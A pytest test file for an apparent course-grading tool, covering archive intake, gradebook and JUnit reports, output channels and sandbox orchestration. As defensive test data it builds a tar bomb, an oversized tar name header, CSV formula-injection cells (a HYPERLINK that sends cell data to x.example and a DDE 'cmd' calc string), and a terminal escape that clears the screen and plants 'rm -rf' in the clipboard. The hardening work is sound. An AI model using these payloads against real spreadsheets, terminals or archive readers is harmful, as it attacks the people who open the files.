"""No one submission stops a grading run: every failure is recorded as that submission's
result, every entry of the submissions folder is accounted for, honest archives are read, and
every output is safe to open. The grading runs here use a stand-in for the sandbox (the
orchestration is under test, not the isolation); test_grading.py runs the real one."""

from __future__ import annotations

import contextlib
import csv
import errno
import gzip
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
import threading
import time
import tracemalloc
import xml.etree.ElementTree as ET
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from pytest_timeout import PYTEST_FAILURE_MESSAGE as TEST_TIMEOUT

from coursekit import load_lab
from coursekit.layout import COURSE_ROOT, solution_root
from grader import (
    GradeOptions,
    _export,
    _grade,
    _sandbox,
    _session,
    _shared_counters,
    _starvation,
    grade_submissions,
)
from grader._intake import InvalidSubmission, Submission, lab_modules, survey
from grader._sandbox._channel import MAX_RECORDS, OUTPUT_TAIL_BYTES, keep_tail, read_lines
from grader._store import ResultStore
from grader.model import (
    REASON_LIMIT,
    StageScore,
    SubmissionResult,
    TestResult,
    TestStatus,
    printable,
)
from grader.report import gradebook, gradescope, junit, write_class_reports
from grader.report import write_submission_reports as write_reports
from tests.chapter08.labrun import over_time_limit_prefix

LAB = load_lab("08")
READ = "src/picourse/coding_tools/read.py"
SOLVED_READ = (solution_root(LAB.root.name) / READ).read_bytes()
MiB = 1 << 20


def practice(path: Path, read: bytes = SOLVED_READ) -> Path:
    (path / READ).parent.mkdir(parents=True, exist_ok=True)
    (path / READ).write_bytes(read)
    return path


def modules_of(submission: Submission, tmp_path: Path) -> dict[str, bytes]:
    scratch = tmp_path / f"scratch-{submission.student}"
    scratch.mkdir()
    return lab_modules(submission, LAB, scratch)


@contextlib.contextmanager
def peak_memory() -> Iterator[list[int]]:
    """The most Python memory held at once inside the block (filled in when it ends)."""
    peak: list[int] = []
    tracemalloc.start()
    try:
        yield peak
        peak.append(tracemalloc.get_traced_memory()[1])
    finally:
        tracemalloc.stop()


def concatenated_gzip(*parts: bytes, zeros: int = 0) -> bytes:
    """A gzip stream of ``parts`` then ``zeros`` zero bytes, cheap to build at any size: the
    zeros are one compressed MiB repeated (gzip allows concatenated members)."""
    stream = b"".join(gzip.compress(part) for part in parts)
    block = gzip.compress(bytes(MiB), compresslevel=9)
    return stream + block * (zeros // MiB)


# Intake -------------------------------------------------------------------------------------


def test_an_archive_of_dot_is_accepted(tmp_path: Path) -> None:
    practice(tmp_path / "work")
    submissions = tmp_path / "subs"
    submissions.mkdir()
    tar = shutil.which("tar")
    assert tar, "the tar command is needed for this test"
    subprocess.run([tar, "czf", str(submissions / "ada.tar.gz"), "-C", str(tmp_path / "work"), "."],
                   check=True)  # fmt: skip
    with tarfile.open(submissions / "ada.tar.gz") as bundle:
        assert "./" in {m.name.rstrip("/") + "/" for m in bundle if m.isdir()}
    (submission,), skipped = survey(submissions)
    assert (submission.student, skipped) == ("ada", [])
    assert modules_of(submission, tmp_path) == {READ: SOLVED_READ}


ARCHIVE_MODES = {".tar": "w:", ".tar.gz": "w:gz", ".tgz": "w:gz", ".tar.xz": "w:xz",
                 ".tar.bz2": "w:bz2", ".TAR.GZ": "w:gz"}  # fmt: skip


@pytest.mark.parametrize("suffix", [*ARCHIVE_MODES, ".zip", ".ZIP"])
def test_the_usual_archive_types_are_read(tmp_path: Path, suffix: str) -> None:
    submissions = tmp_path / "subs"
    submissions.mkdir()
    archive = submissions / f"ada{suffix}"
    if suffix.lower() == ".zip":
        with zipfile.ZipFile(archive, "w") as bundle:
            bundle.writestr(f"lab08/{READ}", SOLVED_READ)
    else:
        with tarfile.open(archive, ARCHIVE_MODES[suffix]) as bundle:  # type: ignore[call-overload]
            info = tarfile.TarInfo(f"lab08/{READ}")
            info.size = len(SOLVED_READ)
            bundle.addfile(info, io.BytesIO(SOLVED_READ))
    (submission,), skipped = survey(submissions)
    assert (submission.student, skipped) == ("ada", [])
    assert modules_of(submission, tmp_path) == {READ: SOLVED_READ}


def test_every_entry_of_the_folder_is_accounted_for(tmp_path: Path) -> None:
    root = tmp_path / "subs"
    practice(root / "ann")
    with zipfile.ZipFile(root / "bob.zip", "w") as bundle:
        bundle.writestr(READ, SOLVED_READ)
    (root / "gone").symlink_to(tmp_path / "nowhere")
    (root / "cy").symlink_to(practice(tmp_path / "elsewhere"))  # the instructor's own link
    (root / "notes.txt").write_text("x")
    (root / "link-to-notes").symlink_to(root / "notes.txt")
    (root / "carl.7z").write_bytes(b"7z")
    (root / ".DS_Store").write_bytes(b"")
    os.mkfifo(root / "pipe")
    found, skipped = survey(root)
    assert [s.student for s in found] == ["ann", "bob", "cy"]
    reasons = {s.entry: s.reason for s in skipped}
    assert len(found) + len(skipped) == len(os.listdir(root)), "no entry goes unmentioned"
    expected = {
        "gone": "broken symbolic link",
        "link-to-notes": "supported archive",
        "notes.txt": "supported archive",
        "carl.7z": "supported archive",
        ".DS_Store": "hidden",
        "pipe": "neither a folder nor a regular file",
    }
    for entry, why in expected.items():
        assert why in reasons[entry], (entry, reasons)


@pytest.mark.parametrize(
    "entries", [("collide/", "collide.zip", "collide.tar.gz"), ("Ann/", "ann.zip")]
)
def test_one_student_with_two_submissions_is_refused_by_name(
    tmp_path: Path, entries: tuple[str, ...]
) -> None:
    root = tmp_path / "subs"
    root.mkdir()
    for entry in entries:
        if entry.endswith("/"):
            practice(root / entry.rstrip("/"))
        elif entry.endswith(".zip"):
            with zipfile.ZipFile(root / entry, "w") as bundle:
                bundle.writestr(READ, SOLVED_READ)
        else:
            with tarfile.open(root / entry, "w:gz") as bundle:
                bundle.add(practice(tmp_path / "work"), arcname=".")
    (submission,), skipped = survey(root)
    assert skipped == []
    with pytest.raises(InvalidSubmission, match=f"{len(entries)} submissions for one student"):
        modules_of(submission, tmp_path)
    for entry in entries:
        assert entry in submission.refused, "the reason names every entry"


def long_header_tar_gz(kind: bytes, claimed: int) -> bytes:
    header = tarfile.TarInfo("././@LongLink")
    header.type = kind
    header.size = claimed
    return concatenated_gzip(header.tobuf(tarfile.USTAR_FORMAT), zeros=claimed)


@pytest.mark.parametrize("kind", [tarfile.GNUTYPE_LONGNAME, tarfile.XHDTYPE])
def test_a_huge_name_header_is_refused_without_reading_it(tmp_path: Path, kind: bytes) -> None:
    root = tmp_path / "subs"
    root.mkdir()
    (root / "mallory.tar.gz").write_bytes(long_header_tar_gz(kind, 1 << 30))
    assert (root / "mallory.tar.gz").stat().st_size < 2 * MiB, "a small archive"
    (submission,), _ = survey(root)
    with peak_memory() as peak, pytest.raises(InvalidSubmission, match="name header"):
        modules_of(submission, tmp_path)
    assert peak[0] < 16 * MiB, f"{peak[0]} bytes held to refuse a 1 GiB header"


def test_a_tar_bomb_is_refused_before_its_content_is_read(tmp_path: Path) -> None:
    member = tarfile.TarInfo(f"lab08/{READ}")
    member.size = 300 * MiB
    root = tmp_path / "subs"
    root.mkdir()
    (root / "bomb.tgz").write_bytes(
        concatenated_gzip(member.tobuf(tarfile.GNU_FORMAT), zeros=300 * MiB)
    )
    (submission,), _ = survey(root)
    with peak_memory() as peak, pytest.raises(InvalidSubmission, match="unpacks to more than"):
        modules_of(submission, tmp_path)
    assert peak[0] < 16 * MiB
    assert not list((tmp_path / "scratch-bomb").rglob("*.py")), "nothing half-written is used"


def sparse(path: Path, size: int = 4 << 30) -> None:
    """A file of ``size`` bytes that takes no disk."""
    with open(path, "wb") as handle:
        handle.truncate(size)


def test_a_huge_file_in_a_directory_submission_is_never_read_whole(tmp_path: Path) -> None:
    student = practice(tmp_path / "subs" / "ann")
    package = (student / READ).parent
    for huge in (student / "dataset.bin", package / "weights.bin", package / "big.py"):
        sparse(huge)
    (submission,), _ = survey(tmp_path / "subs")
    with peak_memory() as peak:
        first = submission.digest()
        modules = modules_of(submission, tmp_path)
    assert peak[0] < 16 * MiB, f"{peak[0]} bytes held to digest 12 GiB of files"
    assert modules == {READ: SOLVED_READ}
    (student / READ).write_bytes(SOLVED_READ + b"\n# changed\n")
    assert submission.digest() != first, "the digest still sees a module change"
    sparse(student / READ)
    with pytest.raises(InvalidSubmission, match=r"read\.py is larger than"):
        lab_modules(submission, LAB, tmp_path)


UNREADABLE_CHECK = """
import json, sys
from pathlib import Path
from coursekit import load_lab
from grader._intake import InvalidSubmission, survey, lab_modules

found, skipped = survey(Path(sys.argv[1]))
reasons = {}
for submission in found:
    try:
        submission.digest()
        lab_modules(submission, load_lab("08"), Path(sys.argv[2]) / submission.student)
        reasons[submission.student] = "read"
    except InvalidSubmission as error:
        reasons[submission.student] = str(error)
print(json.dumps(reasons))
"""


def without_root_reads() -> list[str]:
    """Root reads every file regardless of its mode: run without that capability."""
    if os.geteuid() != 0:
        return []
    setpriv = shutil.which("setpriv")
    assert setpriv, "setpriv (util-linux) is needed to test unreadable files as root"
    return [setpriv, "--bounding-set", "-dac_override,-dac_read_search"]


@pytest.fixture
def unreadable_submissions(tmp_path: Path) -> Iterator[Path]:
    root = tmp_path / "subs"
    locked_module = practice(root / "locked-module") / READ
    locked_folder = practice(root / "locked-folder") / "src" / "picourse"
    locked_notes = practice(root / "locked-notes") / "notes.txt"
    locked_notes.write_text("mine")
    locked = [locked_module, locked_folder, locked_notes]
    for path in locked:
        path.chmod(0)
    yield root
    for path in locked:
        path.chmod(0o755)


def test_an_unreadable_file_or_folder_makes_the_submission_invalid(
    unreadable_submissions: Path, tmp_path: Path
) -> None:
    scratch = tmp_path / "scratch"
    for name in ("locked-module", "locked-folder", "locked-notes"):
        (scratch / name).mkdir(parents=True)
    run = subprocess.run(
        [*without_root_reads(), sys.executable, "-c", UNREADABLE_CHECK,
         str(unreadable_submissions), str(scratch)],
        cwd=COURSE_ROOT, capture_output=True, text=True, check=False, timeout=120,
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    reasons = json.loads(run.stdout)
    assert set(reasons) == {"locked-module", "locked-folder", "locked-notes"}
    for student, reason in reasons.items():
        assert "cannot read" in reason and "ermission denied" in reason, (student, reason)
    assert "notes.txt" in reasons["locked-notes"], "the reason names the file"


# Results and reports ------------------------------------------------------------------------


def result_with(reason: str, message: str, student: str = "ann") -> SubmissionResult:
    tests = [
        TestResult("tests/test_lab8_1_read.py::test_a", "8.1", False, "failed", message, 0, 60),
        TestResult("tests/test_lab8_1_read.py::test_b", "8.1", False, "passed", "", 40, 40),
        TestResult("tests/test_lab8_1_read.py::test_big", "8.1", True, "passed", "", 1, 1),
        TestResult("tests/test_lab8_7_ls.py::test_ls", "8.7", False, "passed", "", 10, 10),
    ]
    stages = [StageScore("8.1", "read", 40, 100, False), StageScore("8.7", "ls", 10, 10, True)]
    return SubmissionResult(student, "crashed", reason, "rlimits", stages, tests, 11, 11)


def test_a_lone_surrogate_never_breaks_a_result_or_a_report(tmp_path: Path) -> None:
    result = result_with("OSError: bad name b'\\xff' -> \udcff", "AssertionError: \ud800 half")
    out = tmp_path / "out"
    write_reports(out / "submissions" / "ann", result)
    write_class_reports(out, LAB, [result])
    written = [p for p in out.rglob("*") if p.is_file()]
    assert len(written) == 6
    for path in written:
        path.read_bytes().decode("utf-8")  # every file is valid UTF-8
    stored = json.loads((out / "submissions/ann/result.json").read_text(encoding="utf-8"))
    assert "\\udcff" in stored["reason"], "the undecodable byte stays visible"
    ET.fromstring((out / "submissions/ann/junit.xml").read_bytes())


def test_reasons_and_messages_are_truncated() -> None:
    result = result_with("x" * (10 * MiB), "y" * (10 * MiB))
    assert len(result.reason) < REASON_LIMIT + 100 and result.reason.endswith("characters]")
    result.reason = "z" * MiB  # also when set later
    assert len(result.reason) < REASON_LIMIT + 100
    assert len(result.tests[0].message) < 5000
    assert len(result.to_json()) < 20_000


def test_junit_is_well_formed_whatever_the_failure_says() -> None:
    message = "AssertionError: \x1b[31mred\x1b[0m \x00\x07\x0c\x7f end\ufffe"
    tree = ET.fromstring(junit.render(result_with("", message)).encode())
    failure = tree.find(".//failure")
    assert failure is not None and failure.text is not None
    assert "\\x1b[31mred" in failure.text and "\\x00\\x07\\x0c" in failure.text
    assert failure.text.endswith("end\\ufffe")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_gradebook_cell_starts_a_formula(start: str) -> None:
    evil = f'{start}HYPERLINK("http://x.example/?"&A1,"open")'
    text = gradebook.render(LAB, [result_with(evil, "", student=f"{start}cmd|' /C calc'!A0")])
    (row,) = list(csv.DictReader(io.StringIO(text)))
    shown = start.replace("\r", "\n")  # a bare CR would end the row in some readers
    assert row["student"] == f"'{shown}cmd|' /C calc'!A0"
    assert row["reason"] == f"'{shown}{evil[1:]}"
    assert row["total"] == "40" and row["bonus"] == "11", "numbers stay numbers"


def test_no_gradebook_cell_carries_a_terminal_escape() -> None:
    # A test's message can hold any text; gradebook.csv is often looked at with cat.
    clear_screen = "AssertionError: \x1b[2J\x1b]52;c;cm0gLXJm\x07 then\nline two\tcolumn"
    text = gradebook.render(LAB, [result_with(clear_screen, "")])
    assert "\x1b" not in text and "\x07" not in text
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["reason"] == (
        "AssertionError: \\x1b[2J\\x1b]52;c;cm0gLXJm\\x07 then\nline two\tcolumn"
    )


def test_the_gradescope_total_keeps_the_extra_credit() -> None:
    result = result_with("", "failed")
    data = json.loads(gradescope.render(result))
    assert "score" not in data, "a top-level score would override the tests' total"
    total = sum(test["score"] for test in data["tests"])
    assert total == pytest.approx(result.score + result.bonus) == 51
    bonus_tests = [t for t in data["tests"] if t["max_score"] == 0]
    assert sum(t["score"] for t in bonus_tests) == result.bonus, "bonus tests are extra credit"


# The channel ---------------------------------------------------------------------------------


def test_a_channel_flooded_without_newlines_costs_bounded_memory() -> None:
    read_end, write_end = os.pipe()

    def flood() -> None:
        with os.fdopen(write_end, "wb") as pipe:
            for _ in range(48):
                pipe.write(b"x" * MiB)
            pipe.write(b"\nnext record\n")

    writer = threading.Thread(target=flood)
    lines: list[bytes] = []
    try:
        with peak_memory() as peak:
            writer.start()
            read_lines(read_end, lines)
    finally:
        writer.join()
        os.close(read_end)
    assert lines == [b"", b"next record"], "the flood is one dropped record, the next intact"
    assert peak[0] < 8 * MiB, f"{peak[0]} bytes held for a 48 MiB line"


def test_a_flood_of_output_is_read_to_its_end_and_only_its_tail_kept() -> None:
    # What a run prints (the student's code writes there too) is read as it comes, or the
    # run would block on a full pipe; only the last OUTPUT_TAIL_BYTES are kept.
    read_end, write_end = os.pipe()
    last = b"".join(b"%07d\n" % n for n in range(OUTPUT_TAIL_BYTES // 8))

    def flood() -> None:
        with os.fdopen(write_end, "wb") as pipe:
            for _ in range(48):
                pipe.write(b"spam " * (MiB // 5))
            pipe.write(last)

    writer = threading.Thread(target=flood)
    tail = bytearray()
    try:
        with peak_memory() as peak, os.fdopen(read_end, "rb") as stream:
            writer.start()
            keep_tail(stream, tail)
    finally:
        writer.join()
    assert bytes(tail) == last, "the tail is the last OUTPUT_TAIL_BYTES of the output"
    assert peak[0] < 8 * MiB, f"{peak[0]} bytes held for 48 MiB of output"


def test_a_channel_flooded_with_records_is_read_to_its_end() -> None:
    read_end, write_end = os.pipe()

    def flood() -> None:
        with contextlib.suppress(BrokenPipeError), os.fdopen(write_end, "wb") as pipe:
            pipe.write(b"{}\n" * (MAX_RECORDS + 10))
            pipe.write(b"x" * MiB + b"\n")  # far more than a pipe holds

    writer = threading.Thread(target=flood)
    lines: list[bytes] = []
    try:
        writer.start()
        read_lines(read_end, lines)
        writer.join(30)
        assert not writer.is_alive(), (
            "the reader stopped at MAX_RECORDS and left the writer (the judge) blocked on a "
            "full channel: read the rest and drop it"
        )
    finally:
        os.close(read_end)  # a writer still blocked gets EPIPE and ends
        writer.join()
    assert len(lines) == MAX_RECORDS + 1 and lines[-1] == b"", (
        "the records past the cap are dropped as one forged (empty) record"
    )


# Orchestration ------------------------------------------------------------------------------


def test_the_static_scan_never_runs_in_two_threads_at_once(monkeypatch: pytest.MonkeyPatch) -> None:
    # CPython gh-106905: two threads in ast.parse can crash the interpreter.
    both_inside = threading.Barrier(2, timeout=5)
    met: list[bool] = []

    def scan(modules: dict[str, bytes]) -> list[str]:
        try:
            both_inside.wait()
            met.append(True)
        except threading.BrokenBarrierError:
            met.append(False)
        return []

    monkeypatch.setattr(_session, "scan", scan)
    threads = [threading.Thread(target=_session._scan, args=({},)) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert met == [False, False], "the second scan began before the first ended"


HOSTED = {"type": "hosted", "tests": 0, "wrong_canaries": 0, "forged": 0, "stalled": False}
STALLED = {**HOSTED, "stalled": True}
# Its in-host pytest ended (exit code 2, then killed by SIGKILL) with tests never run.
CUT = {**HOSTED, "cut": True, "ended": [2, -9]}
# Its in-host pytest ended once (killed by SIGXFSZ) and ran the batch when started again.
RESTARTED = {**HOSTED, "tests": 3, "cut": False, "ended": [-25]}


class FakeSandbox:
    """Stands in for ``_sandbox.run_tests``: what it does depends on a word in read.py."""

    def __init__(self) -> None:
        self.calls: Counter[str] = Counter()
        self.paths: list[str] = []
        self._lock = threading.Lock()

    def __call__(self, workdir: Path, scratch: Path, *args: Any, **kwargs: Any) -> Any:
        judge = args[3]  # limits, mode, user, judge: the student's modules come with it
        behaviour = judge.files[str(READ)].decode().split()[-1]
        with self._lock:
            self.calls[behaviour] += 1
            self.paths += [str(workdir), str(scratch)]
            attempt = self.calls[behaviour]
        if behaviour == "flaky" and attempt == 1:
            raise OSError(errno.EAGAIN, "Resource temporarily unavailable")
        if behaviour == "broken":
            raise RuntimeError("sandbox exploded on \udcff")
        outcome = _sandbox.RunOutcome(isolation="fake")
        if behaviour == "never-started":
            outcome.exit_code = 1
            outcome.output_tail = "bwrap: Creating new namespace failed"
            return outcome
        decided = {"type": "test", "nodeid": "tests/test_lab8_1_read.py::x", "passed": False}
        if behaviour == "reports-a-stub-stage":  # a pass for a test of a file never collected
            decided = {"type": "test", "nodeid": UNRUN_WRITE_TEST, "passed": True}
        # The judge's own failures: pytest's internal error, or a session that decided nothing.
        status, records = {
            "judge-internal-error": (3, []),
            "judge-decided-nothing": (5, []),
            "judge-interrupted": (2, [decided]),  # the student's process signalled it
            "host-stalled": (1, [decided, STALLED]),  # it stopped answering in-host batches
            "host-cut": (1, [decided, CUT]),
            "host-restarted": (1, [decided, RESTARTED]),
        }.get(behaviour, (1, [decided]))
        outcome.records = [{"type": "start"}, *records, {"type": "end", "exitstatus": status}]
        outcome.exit_code = status
        return outcome


@pytest.fixture
def sandbox(monkeypatch: pytest.MonkeyPatch) -> FakeSandbox:
    fake = FakeSandbox()
    monkeypatch.setattr(_sandbox, "run_tests", fake)
    return fake


def student(root: Path, name: str, behaviour: str = "ok") -> Path:
    return practice(root / name, f"# behaves: {behaviour}\n".encode())


def statuses(out: Path) -> dict[str, tuple[str, str]]:
    rows = csv.DictReader(io.StringIO((out / "gradebook.csv").read_text(encoding="utf-8")))
    return {row["student"]: (row["status"], row["reason"]) for row in rows}


@pytest.mark.slow
def test_grader_failures_are_errors_tried_twice_and_graded_again_next_run(
    tmp_path: Path, sandbox: FakeSandbox
) -> None:
    subs, out = tmp_path / "subs", tmp_path / "out"
    for name, behaviour in [("ann:lee", "ok"), ("ben", "flaky"), ("cy", "broken"),
                            ("dee", "never-started"), ("eve", "judge-internal-error"),
                            ("fay", "judge-decided-nothing")]:  # fmt: skip
        student(subs, name, behaviour)
    grade_submissions(subs, out, GradeOptions(jobs=2))
    book = statuses(out)
    expected = {"ann:lee": "graded", "ben": "graded", "cy": "error", "dee": "error"}
    expected |= {"eve": "error", "fay": "error"}  # never a silent zero
    assert {name: status for name, (status, _) in book.items()} == expected
    failed_twice = {"broken": 2, "never-started": 2, "judge-internal-error": 2}
    assert sandbox.calls == {"ok": 1, "flaky": 2, **failed_twice, "judge-decided-nothing": 2}
    assert "the grader failed twice, not the student" in book["cy"][1]
    assert "\\udcff" in book["cy"][1] and "bwrap: Creating" in book["dee"][1]
    assert "exit status 3 (an internal error)" in book["eve"][1]
    assert "exit status 5 (no test decided)" in book["fay"][1]
    assert not any("ann" in path or ":" in path for path in sandbox.paths), sandbox.paths
    grade_submissions(subs, out, GradeOptions(jobs=2))
    again = {"broken": 4, "never-started": 4, "judge-internal-error": 4}
    assert sandbox.calls == {"ok": 1, "flaky": 2, **again, "judge-decided-nothing": 4}, (
        "a rerun grades the errors again, and only them"
    )


# A test of stage 8.3, still on its stub in every submission here: never run.
UNRUN_WRITE_TEST = "tests/test_lab8_3_write.py::test_write_replaces_the_whole_file"


def test_a_record_for_a_test_that_was_never_run_is_flagged_and_earns_nothing(
    tmp_path: Path, sandbox: FakeSandbox
) -> None:
    assert UNRUN_WRITE_TEST.split("::")[1] in (LAB.tests_dir / "test_lab8_3_write.py").read_text()
    subs, out = tmp_path / "subs", tmp_path / "out"
    student(subs, "kim", "reports-a-stub-stage")
    grade_submissions(subs, out, GradeOptions(jobs=1))
    status, reason = statuses(out)["kim"]
    assert status == "flagged" and "1 record(s) for tests that were never run" in reason
    held = ResultStore(out).load("kim")
    assert held is not None
    (unrun,) = [t for t in held.tests if t.nodeid == UNRUN_WRITE_TEST]
    assert unrun.status == "failed" and "not run" in unrun.message, (
        "a stage on its stub is recorded failed, whatever a run says of it"
    )


def test_a_judge_interrupted_by_the_students_process_is_a_crash_not_a_grade(
    tmp_path: Path, sandbox: FakeSandbox
) -> None:
    subs, out = tmp_path / "subs", tmp_path / "out"
    student(subs, "gus", "judge-interrupted")
    grade_submissions(subs, out, GradeOptions(jobs=1))
    status, reason = statuses(out)["gus"]
    assert status == "crashed" and "interrupted" in reason, (status, reason)


def test_an_in_host_run_that_stopped_answering_is_a_crash_that_says_so(
    tmp_path: Path, sandbox: FakeSandbox
) -> None:
    subs, out = tmp_path / "subs", tmp_path / "out"
    student(subs, "hal", "host-stalled")
    student(subs, "ida", "ok")
    grade_submissions(subs, out, GradeOptions(jobs=1))
    book = statuses(out)
    status, reason = book["hal"]
    named = "tests run in the student's own process could not go on"
    assert status == "crashed" and named in reason, (
        "a stalled in-host run is named, not left to look like failed tests",
        status,
        reason,
    )
    assert book["ida"] == ("graded", ""), "an answered run is graded as usual"


def test_in_host_tests_cut_short_make_a_crash_that_says_how_and_a_restart_is_noted(
    tmp_path: Path, sandbox: FakeSandbox
) -> None:
    # A correct submission once lost the in-host tests of a whole file to an in-host pytest
    # that ended, graded "graded" with no word: whatever ends it, the grade must say so.
    subs, out = tmp_path / "subs", tmp_path / "out"
    student(subs, "jo", "host-cut")
    student(subs, "kit", "host-restarted")
    grade_submissions(subs, out, GradeOptions(jobs=1))
    book = statuses(out)
    status, reason = book["jo"]
    assert status == "crashed", (status, reason)
    assert "tests run in the student's own process ended before they all ran" in reason
    assert "(exit code 2, then killed by SIGKILL)" in reason, reason
    assert book["kit"] == (
        "graded",
        "for review, no effect on the score: the tests run in the student's own process "
        "ended before they all ran (killed by SIGXFSZ) and ran to the end when started "
        "once more",
    )


FIRST_READ_TEST = "tests/test_lab8_1_read.py::test_lines_are_numbered_and_details_describe_the_file"


class SideBySideSandbox:
    """A stand-in for the sandbox whose jobs' first runs all start side by side, for sure (a
    barrier), and whose later runs go one at a time; the behaviour is the student's read.py
    last word. Records how many jobs ran when each started."""

    def __init__(self, jobs: int) -> None:
        self._lock = threading.Lock()
        self._side_by_side = threading.Barrier(jobs, timeout=60)
        self.running = 0
        self.starts: list[tuple[str, int]] = []

    def __call__(self, workdir: Path, scratch: Path, *args: Any, **kwargs: Any) -> Any:
        behaviour = args[3].files[str(READ)].decode().split()[-1]
        with self._lock:
            self.running += 1
            self.starts.append((behaviour, self.running))
            first = [b for b, _ in self.starts].count(behaviour) == 1
        try:
            if first:
                self._side_by_side.wait()
            return self.run(behaviour, first)
        finally:
            with self._lock:
                self.running -= 1

    def run(self, behaviour: str, first: bool) -> _sandbox.RunOutcome:
        raise NotImplementedError


class ContendedSandbox(SideBySideSandbox):
    """Four jobs: beside its neighbours only, ``starved`` meets the wall and ``slowed`` a
    test's timeout; ``hangs`` meets the wall however it runs, ``steady`` never does."""

    def __init__(self) -> None:
        super().__init__(4)

    def run(self, behaviour: str, first: bool) -> _sandbox.RunOutcome:
        outcome = _sandbox.RunOutcome(isolation="fake", exit_code=1)
        decided = {"type": "test", "nodeid": FIRST_READ_TEST, "passed": True}
        if behaviour == "slowed" and first:
            decided |= {"passed": False, "message": "Failed: " + TEST_TIMEOUT % 60}
        outcome.records = [{"type": "start"}, decided]
        if behaviour == "hangs" or (behaviour == "starved" and first):
            outcome.timed_out = True
        else:
            outcome.records.append({"type": "end", "exitstatus": 0})
        return outcome


@pytest.mark.parametrize(
    ("isolated", "stall", "graded_again"),
    [
        (False, "always", True),  # a normal user's jobs, the CPUs contended all along
        (False, "unknown", True),  # no pressure count (macOS): a timeout may be starvation
        (False, "never", False),  # nothing waited for a CPU: the timeouts are the jobs' own
        (True, "always", False),  # a cpu cgroup per job (root): no job can starve another
    ],
)
def test_a_timeout_beside_jobs_that_could_take_its_cpu_is_graded_again_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, isolated: bool, stall: str,
    graded_again: bool,
) -> None:  # fmt: skip
    sandbox = ContendedSandbox()
    monkeypatch.setattr(_sandbox, "run_tests", sandbox)
    clocks = {"always": time.monotonic, "unknown": lambda: None, "never": lambda: 0.0}
    monkeypatch.setattr(_starvation, "cpu_stall_seconds", clocks[stall])

    class Pool(_sandbox.UserPool):
        def __init__(self, *args: Any, **kwargs: Any) -> None:
            super().__init__(*args, **kwargs)
            self.isolates_cpu = isolated

    monkeypatch.setattr(_sandbox, "UserPool", Pool)
    subs, out, done = tmp_path / "subs", tmp_path / "out", []
    names = ["hangs", "slowed", "starved", "steady"]
    for name in names:
        student(subs, name, name)
    grade_submissions(subs, out, GradeOptions(jobs=4), on_done=lambda r: done.append(r.student))
    first_round, again = sandbox.starts[:4], sandbox.starts[4:]
    assert sorted(b for b, _ in first_round) == names
    assert sorted(done) == names, "on_done once per submission"
    stored = ResultStore(out).load("slowed")
    assert stored is not None
    slowed = [t for t in stored.tests if t.nodeid == FIRST_READ_TEST]
    book = {name: status for name, (status, _) in statuses(out).items()}
    steady = {"slowed": "graded", "steady": "graded"}
    if graded_again:
        assert sorted(again) == [("hangs", 1), ("slowed", 1), ("starved", 1)], (
            "each timeout graded beside jobs that could take its CPU is graded once more, "
            f"with no other job running: {sandbox.starts}"
        )
        assert book == {"starved": "graded", "hangs": "timeout"} | steady
        assert [t.status for t in slowed] == ["passed"], "the run alone is the one that counts"
    else:
        assert not again, f"graded again although no neighbour could starve it: {again}"
        assert book == {"starved": "timeout", "hangs": "timeout"} | steady
        assert [t.status for t in slowed] == ["failed"]


class CountersUsedUp(SideBySideSandbox):
    """Two jobs. While ``takes-all`` first runs, the uid's shared counters read used up,
    and both jobs wait until the watch has recorded a look (the probe, patched) that saw
    it: the look after it has begun; ``neighbour`` fails its test then (its event loop
    could not start) and passes alone."""

    def __init__(self, watched: bool) -> None:
        super().__init__(2)
        self._watched = watched
        self._both_looked_at = threading.Barrier(2, timeout=60)
        self.used_up = threading.Event()
        self.seen = threading.Event()
        self._reported = False
        self.looks = 0

    def probe(self) -> str | None:
        with self._lock:
            self.looks += 1
        if self._reported:
            self.seen.set()
        if not self.used_up.is_set():
            return None
        self._reported = True
        return "epoll watches (fs.epoll.max_user_watches)"

    def run(self, behaviour: str, first: bool) -> _sandbox.RunOutcome:
        decided = {"type": "test", "nodeid": FIRST_READ_TEST, "passed": True}
        if first:
            if behaviour == "takes-all":
                self.used_up.set()
            if self._watched:
                assert self.seen.wait(60), "the watch never looked at the counters"
            self._both_looked_at.wait()  # both runs end after the look
            self.used_up.clear()
            if behaviour == "neighbour":
                message = "OSError: [Errno 28] No space left on device"
                decided |= {"passed": False, "message": message}
        outcome = _sandbox.RunOutcome(isolation="fake", exit_code=0)
        outcome.records = [{"type": "start"}, decided, {"type": "end", "exitstatus": 0}]
        return outcome


@pytest.mark.parametrize("shares_uid", [True, False], ids=["one-uid", "a-uid-per-job"])
def test_a_job_beside_one_that_used_up_the_uids_counters_is_graded_again_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, shares_uid: bool
) -> None:
    """As a normal user every job runs as the grader's uid, and the kernel counts epoll
    watches and pipe buffers per uid: a job that took them all failed its neighbour's event
    loops (ENOSPC), and that neighbour kept the score. Now a job that ran while a look saw
    them used up is graded again with no other job running; as root (a uid per job)
    nothing is shared and nothing is watched."""
    sandbox = CountersUsedUp(watched=shares_uid)
    monkeypatch.setattr(_sandbox, "run_tests", sandbox)
    monkeypatch.setattr(_shared_counters, "_Probe", lambda: _Looks(sandbox.probe))

    class Pool(_sandbox.UserPool):
        def __init__(self, *args: Any, **kwargs: Any) -> None:
            super().__init__(*args, **kwargs)
            self.isolates_cpu = True  # no timeout here: only the counters may decide
            self.shares_uid = shares_uid

    monkeypatch.setattr(_sandbox, "UserPool", Pool)
    subs, out = tmp_path / "subs", tmp_path / "out"
    for name in ("takes-all", "neighbour"):
        student(subs, name, name)
    grade_submissions(subs, out, GradeOptions(jobs=2))
    stored = ResultStore(out).load("neighbour")
    assert stored is not None
    neighbour = [t.status for t in stored.tests if t.nodeid == FIRST_READ_TEST]
    again = sandbox.starts[2:]
    if shares_uid:
        assert sorted(again) == [("neighbour", 1), ("takes-all", 1)], (
            "each job that ran while the uid's counters were used up is graded once more, "
            f"with no other job running: {sandbox.starts}"
        )
        assert neighbour == ["passed"], "the run alone is the one that counts"
    else:
        assert not again and sandbox.looks == 0, (sandbox.starts, sandbox.looks)
        assert neighbour == ["failed"]


class _Looks:
    """A stand-in for the probe's descriptors: each call is one look."""

    def __init__(self, look: Callable[[], str | None]) -> None:
        self._look = look

